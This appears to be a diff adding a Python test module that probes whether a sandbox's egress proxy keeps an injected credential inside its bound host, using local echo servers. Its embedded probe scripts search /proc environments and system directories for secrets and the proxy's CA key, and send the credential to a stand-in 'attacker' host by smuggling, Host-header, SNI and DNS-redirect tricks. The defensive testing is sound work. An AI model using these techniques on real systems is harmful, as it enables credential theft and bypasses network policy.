@@ -1,0 +1,336 @@
+"""Credential attacks (issue 23): take the value a policy binds to one host out of the
+box, or get the proxy to send it anywhere else.
+
+Each probe stands up two HTTPS servers of its own on the proxies' egress bridge (the
+proxy image's python3, with a CA made at its start): `bound`, known as the credential's
+host and as a host with rules only, and `elsewhere`, known as an allowed host with no
+credential (tunnelled) and as one more the attacker might want. The box's policy is the
+lab's, switched to `network: allowlist` with those four names and one credential, whose
+value ("wlsecret" and 32 random hex digits) lives only in this process's environment for
+the probe's length: the proxy gets it from there, as it would from the broker's. Both
+servers print every request they get; the value found anywhere it was not meant to be
+(in the box, in `elsewhere`'s log, in a request to `bound` for another name) is an escape.
+
+The two private-address and CA settings the servers need are the operator's
+(network.plan_for), set for the probe's length only. Nothing leaves this machine.
+
+Not here: the proxy (sandbox/network.py, proxy-image/), the allowlist probes that need
+no credential (allowlist.py).
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import secrets
+import time
+from contextlib import contextmanager
+from dataclasses import replace
+
+from orchestrator.escapes.core import Probe, Trial, escaped, held, python_command
+from orchestrator.policy.schema import Credential, HttpRule
+from orchestrator.sandbox import network
+
+CATEGORY = "allowlist"
+LABEL = "wakeloop.escapes.credentials"  # on the probes' servers
+BOUND, RULED = "bound.wakeloop-probe.test", "ruled.wakeloop-probe.test"  # one server
+PLAIN, ATTACKER = "plain.wakeloop-probe.test", "attacker.wakeloop-probe.test"  # the other
+VAR = "ESCAPE_PROBE_TOKEN"  # the credential's variable, in this process only while a probe runs
+PREFIX = "wlsecret"  # every value starts so: the box may search for it without knowing it
+READY_S = 30
+
+# An HTTPS server (python3 and cryptography of the proxy image): a CA and a certificate for
+# the names in argv[1], made at its start; prints "CA <pem with | for newlines>", "READY", and
+# "SEEN <json>" for every request (its line, headers and body), and answers 200 with a summary.
+ECHO_SERVER = r"""
+import datetime, hashlib, http.server, json, ssl, sys
+from cryptography import x509
+from cryptography.hazmat.primitives import hashes, serialization
+from cryptography.hazmat.primitives.asymmetric import ec
+from cryptography.x509.oid import NameOID
+
+names = sys.argv[1].split(",")
+now = datetime.datetime.utcnow()
+def cert(subject, issuer, key, sign_key, ca, sans=()):
+    b = (x509.CertificateBuilder().subject_name(subject).issuer_name(issuer).public_key(key.public_key())
+         .serial_number(x509.random_serial_number()).not_valid_before(now - datetime.timedelta(days=1))
+         .not_valid_after(now + datetime.timedelta(days=1))
+         .add_extension(x509.BasicConstraints(ca=ca, path_length=None), critical=True))
+    if sans:
+        b = b.add_extension(x509.SubjectAlternativeName([x509.DNSName(n) for n in sans]), critical=False)
+    return b.sign(sign_key, hashes.SHA256())
+ca_key, key = ec.generate_private_key(ec.SECP256R1()), ec.generate_private_key(ec.SECP256R1())
+ca_name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "wakeloop test CA")])
+ca = cert(ca_name, ca_name, ca_key, ca_key, True)
+leaf = cert(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, names[0])]), ca_name, key, ca_key, False, names)
+with open("/tmp/leaf.pem", "wb") as f:
+    f.write(leaf.public_bytes(serialization.Encoding.PEM))
+    f.write(key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
+                              serialization.NoEncryption()))
+print("CA " + ca.public_bytes(serialization.Encoding.PEM).decode().replace("\n", "|"), flush=True)
+
+class Echo(http.server.BaseHTTPRequestHandler):
+    protocol_version = "HTTP/1.1"
+    def answer(self):
+        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
+        auth = self.headers.get("Authorization", "")
+        print("SEEN " + json.dumps({"line": self.requestline, "host": self.headers.get("Host", ""),
+                                    "headers": str(self.headers), "body": body.decode(errors="replace")}),
+              flush=True)
+        out = {"method": self.command, "path": self.path, "host": self.headers.get("Host"),
+               "auth_sha256": hashlib.sha256(auth.encode()).hexdigest() if auth else ""}
+        if self.path.endswith("/echo"):
+            out["auth"] = auth
+        if self.path.endswith("/big"):
+            out["pad"] = "x" * 6000
+        data = json.dumps(out).encode()
+        self.send_response(200)
+        self.send_header("Content-Type", "application/json")
+        self.send_header("Content-Length", str(len(data)))
+        self.end_headers()
+        self.wfile.write(data)
+    do_GET = do_POST = do_PUT = do_DELETE = answer
+    def log_message(self, *args):
+        pass
+
+server = http.server.ThreadingHTTPServer(("0.0.0.0", 443), Echo)
+context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+context.load_cert_chain("/tmp/leaf.pem")
+server.socket = context.wrap_socket(server.socket, server_side=True)
+print("READY", flush=True)
+server.serve_forever()
+"""
+
+
+def _line(container, prefix: str) -> str:
+    deadline = time.monotonic() + READY_S
+    while time.monotonic() < deadline:
+        for line in container.logs().decode(errors="replace").splitlines():
+            if line.startswith(prefix):
+                return line
+        time.sleep(0.1)
+    raise RuntimeError(f"the probe's server did not start: {container.logs()[-300:]!r}")
+
+
+@contextmanager
+def echo_server(client, names: tuple[str, ...], label: str = LABEL):
+    """ECHO_SERVER on the egress bridge, known there by `names`; yields (container, its CA's PEM)."""
+    network._ensure_image(client)
+    bridge = network._ensure_network(client, network.EGRESS_NETWORK, internal=False, key="shared")
+    container = client.containers.create(
+        network.PROXY_IMAGE,
+        ["python3", "-c", ECHO_SERVER, ",".join(names)],
+        user="0:0",  # port 443
+        network=bridge.name,
+        labels={label: "1"},
+        mem_limit=128 * 2**20,
+        pids_limit=64,
+        detach=True,
+    )
+    try:
+        bridge.disconnect(container)
+        bridge.connect(container, aliases=list(names))
+        container.start()
+        ca = _line(container, "CA ")[3:].replace("|", "\n")
+        _line(container, "READY")
+        yield container, ca
+    finally:
+        container.remove(force=True)
+
+
+def seen(container) -> list[dict]:
+    """The requests a server printed."""
+    lines = container.logs().decode(errors="replace").splitlines()
+    return [json.loads(line[5:]) for line in lines if line.startswith("SEEN ")]
+
+
+@contextmanager
+def _credential_box(t: Trial):
+    """Both servers, the operator's settings and the value in this process's environment,
+    and a box whose policy binds the value to BOUND; yields (box, value, bound, elsewhere)."""
+    value = PREFIX + secrets.token_hex(16)
+    with (
+        echo_server(t.lab.client, (BOUND, RULED)) as (bound, ca_1),
+        echo_server(t.lab.client, (PLAIN, ATTACKER)) as (
+            elsewhere,
+            ca_2,
+        ),
+    ):
+        ca_file = t.dir / "upstream-ca.pem"
+        ca_file.write_text(ca_1 + ca_2)
+        saved = {k: os.environ.get(k) for k in (VAR, network.PRIVATE_OK_ENV, network.UPSTREAM_CA_ENV)}
+        os.environ.update(
+            {
+                VAR: value,
+                network.PRIVATE_OK_ENV: ",".join((BOUND, RULED, PLAIN, ATTACKER)),
+                network.UPSTREAM_CA_ENV: str(ca_file),
+            }
+        )
+        policy = replace(
+            t.lab.policy,
+            network="allowlist",
+            allow_hosts=(BOUND, RULED, PLAIN, ATTACKER),
+            credentials=(Credential(host=BOUND, value=f"Bearer ${{{VAR}}}", placeholder_env="PROBE_TOKEN"),),
+            http=(HttpRule(host=RULED, allow=("GET /**",)),),
+        )
+        box = None
+        try:
+            box = t.new_box(policy=policy, warm=0)
+            yield box, value, bound, elsewhere
+        finally:
+            if box is not None:
+                network.shutdown(t.lab.client, {box._egress().key}, shared=False)
+            for k, v in saved.items():
+                if v is None:
+                    os.environ.pop(k, None)
+                else:
+                    os.environ[k] = v
+
+
+# -- the value and the CA's key, from inside the box -------------------------------------
+
+SEARCH = r"""
+import glob, socket, urllib.request
+found = []
+def look(where, data):
+    for mark in (b"PRIVATE" + b" KEY", bytes.fromhex("PREFIX")):  # not in this program's own text
+        if mark in data:
+            found.append(f"{mark.decode()} in {where}")
+for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
+    try:
+        look(path, open(path, "rb").read())
+    except OSError:
+        pass
+look("os.environ", repr(dict(os.environ)).encode())
+for top in ("/tmp", "/workspace", "/etc", "/home", "/run", "/var/tmp", "/dev/shm"):
+    for root, dirs, files in os.walk(top):
+        for f in files:
+            try:
+                look(os.path.join(root, f), open(os.path.join(root, f), "rb").read(1 << 20))
+            except OSError:
+                pass
+procs = [open(p, "rb").read().replace(b"\0", b" ")[:60] for p in glob.glob("/proc/[0-9]*/cmdline")]
+theirs = [p for p in procs if b"mitm" in p]
+if theirs:
+    found.append(f"the proxy's processes are in the box's view: {theirs}")
+# The proxy asked for itself, as an origin server and as a proxy target, and for its files.
+for url in ("http://wakeloop-proxy:3128/", "http://wakeloop-proxy:3128/tmp/mitm/mitmproxy-ca.pem"):
+    try:
+        s = socket.create_connection(("wakeloop-proxy", 3128), timeout=10)
+        s.sendall(f"GET {url} HTTP/1.1\r\nHost: wakeloop-proxy\r\nConnection: close\r\n\r\n".encode())
+        data = b""
+        while chunk := s.recv(65536):
+            data += chunk
+        look(f"the proxy's answer to {url}", data)
+    except OSError as e:
+        pass
+for port in (8080, 8081, 22, 9090):
+    try:
+        socket.create_connection(("wakeloop-proxy", port), timeout=3).close()
+        found.append(f"the proxy listens on {port}")
+    except OSError:
+        pass
+if not os.environ.get("HTTPS_PROXY"):
+    print("no proxy configured: not an allowlist box")
+elif found:
+    escaped("; ".join(found))
+else:
+    held("neither the CA's key nor the credential's value in the box's environment, processes or files, "
+         "nor in the proxy's answers; none of the proxy's processes in view, no other port of it open")
+""".replace("PREFIX", PREFIX.encode().hex())
+
+
+def _out_of_the_box(t: Trial) -> str:
+    with _credential_box(t) as (box, value, _bound, _elsewhere):
+        result = box.run(python_command(SEARCH), timeout_s=120, max_output_chars=20_000)
+        text = result.output + f"\n[host: exit {result.exit_code}]"
+        if value in text:
+            return escaped(f"the box printed the value itself: {text[-300:]!r}")
+        return text
+
+
+# -- the value to anywhere but its host ---------------------------------------------------
+
+ATTEMPTS = (
+    r"""
+import json, os, subprocess
+P = os.environ.get("PROBE_TOKEN", "")
+def curl(*args):
+    r = subprocess.run(["curl", "-sS", "-o", "/dev/null", "-w", "%{http_code} %{http_connect}", "--max-time", "15",
+                        *args], capture_output=True, text=True)
+    return (r.stdout + " " + r.stderr.strip()[:120]).strip()
+B, R, PL, A = "BOUND", "RULED", "PLAIN", "ATTACKER"
+out = {
+    # the placeholder in a header to another intercepted host: refused as misdirected
+    "misdirected header": curl("-H", f"Authorization: Bearer {P}", f"https://{R}/misdirected"),
+    # in a query to it
+    "misdirected query": curl(f"https://{R}/misdirected?t={P}"),
+    # replayed over plain HTTP to its own host: credentials go over https only
+    "plain http replay": curl("-H", f"Authorization: Bearer {P}", f"http://{B}/replay"),
+    # smuggled in a body and a query to an allowed host with no credential (tunnelled)
+    "smuggled body": curl("-k", "-X", "POST", "-d", f"token={P}", f"https://{PL}/smuggle"),
+    "smuggled query": curl("-k", f"https://{PL}/smuggle?token={P}"),
+    # DNS and naming tricks: the intercepted name, pointed at another address
+    "resolve to elsewhere": curl("-k", "--connect-to", f"{B}:443:{A}:443", f"https://{B}/connect-to"),
+    "host header elsewhere": curl("-k", "-H", f"Host: {A}", f"https://{B}/host-header"),
+    "sni of the bound name through a tunnel": curl("-k", "--connect-to", f"{B}:443:{PL}:443", f"https://{B}/sni"),
+    "trailing dot": curl(f"https://{B}./repos/dot"),
+    "ip literal": curl("-k", "--resolve", f"{B}:443:203.0.113.9", f"https://{B}/ip"),
+}
+print("RESULT " + json.dumps(out))
+""".replace("BOUND", BOUND)
+    .replace("RULED", RULED)
+    .replace("PLAIN", PLAIN)
+    .replace("ATTACKER", ATTACKER)
+)
+
+
+def _only_to_its_host(t: Trial) -> str:
+    with _credential_box(t) as (box, value, bound, elsewhere):
+        if not _routes(box):  # gVisor run with --network=none ignores the holder's netns
+            return held("the box has no route at all on this runtime: no request reaches the proxy")
+        result = box.run(python_command(ATTEMPTS), timeout_s=180, max_output_chars=20_000)
+        answers = next((line[7:] for line in result.output.splitlines() if line.startswith("RESULT ")), None)
+        if answers is None:
+            return f"the attempts said: {result.output[-300:]!r} (exit {result.exit_code})"
+        leaks = [
+            f"{where} got it in {r['line']!r} (Host {r['host']})"
+            for where, server in (("bound", bound), ("elsewhere", elsewhere))
+            for r in seen(server)
+            if value in json.dumps(r) and (where == "elsewhere" or r["host"].split(":")[0].rstrip(".") != BOUND)
+        ]
+        if leaks:
+            return escaped("the credential's value left for another host: " + "; ".join(leaks))
+        passed = {
+            k: v for k, v in json.loads(answers).items() if k.startswith(("misdirected", "plain")) and v[:1] == "2"
+        }
+        if passed:
+            return escaped(f"the proxy passed requests it should refuse: {passed}")
+        return held(
+            "the value reached only its own host (https, its own name): misdirected, replayed, smuggled and "
+            f"re-pointed attempts got {answers}"
+        )
+
+
+def _routes(box) -> bool:
+    out = box.run("cat /proc/net/route", timeout_s=30, max_output_chars=4000).output
+    return len([line for line in out.splitlines()[1:] if line.strip()]) > 0
+
+
+credentials_out_of_the_box = Probe(
+    "credentials_out_of_the_box",
+    CATEGORY,
+    "neither a credential's value nor the proxy's CA key is anywhere the box can read; the proxy's memory "
+    "and files are in another container",
+    _out_of_the_box,
+)
+
+credentials_only_to_their_host = Probe(
+    "credentials_only_to_their_host",
+    CATEGORY,
+    "a placeholder misdirected, replayed over http, smuggled in a body or query, or its host re-pointed "
+    "(connect-to, Host header, SNI, IP literal) never sends the value anywhere but its host",
+    _only_to_its_host,
+)
+
+PROBES = [credentials_out_of_the_box, credentials_only_to_their_host]
